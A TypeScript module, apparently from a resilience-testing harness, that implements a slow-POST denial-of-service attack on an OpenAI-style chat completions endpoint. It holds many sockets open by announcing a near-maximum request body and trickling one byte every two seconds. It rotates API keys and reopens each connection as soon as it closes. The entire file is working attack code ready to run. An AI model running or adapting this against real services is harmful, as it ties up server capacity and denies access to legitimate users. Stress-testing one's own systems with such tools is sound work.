/** Uploads that announce the largest body and send next to nothing: each begins again when it is closed. */
import { connect, type Socket } from 'node:net'
import type { Attack } from './attack.ts'

/** Just below the most that is accepted. */
const ANNOUNCED_BYTES = 67_100_000
/** One byte each. */
const TRICKLE_MS = 2000

/** Holds this many open, their keys in turn. */
export function idleUploads(url: string, keys: string[], count: number): Attack {
  const { hostname, port, host } = new URL(url)
  const seen: Record<string, number> = {}
  const sockets = new Set<Socket>()
  let stopped = false

  function open(key: string) {
    const socket = connect(Number(port), hostname, () => {
      const head = ['POST /v1/chat/completions HTTP/1.1', `host: ${host}`, `authorization: Bearer sk-${key}`]
      const rest = ['content-type: application/json', `content-length: ${ANNOUNCED_BYTES}`, '', '{"a":']
      socket.write([...head, ...rest].join('\r\n'))
    })
    sockets.add(socket)
    const trickle = setInterval(() => socket.write(' '), TRICKLE_MS)
    let answer = ''
    socket.on('data', piece => (answer += piece.toString('latin1')))
    socket.on('error', () => undefined)
    socket.on('close', () => {
      clearInterval(trickle)
      sockets.delete(socket)
      const status = /^HTTP\/1\.1 (\d+)/.exec(answer)?.[1] ?? 'closed'
      seen[status] = (seen[status] ?? 0) + 1
      // Not at once: what is refused at the door would otherwise be a flood of handshakes, which this is not.
      if (!stopped) setTimeout(() => stopped || open(key), 1000)
    })
  }

  for (let index = 0; index < count; index++) open(keys[index % keys.length]!)
  return {
    seen,
    stop() {
      stopped = true
      for (const socket of sockets) socket.destroy()
    },
  }
}
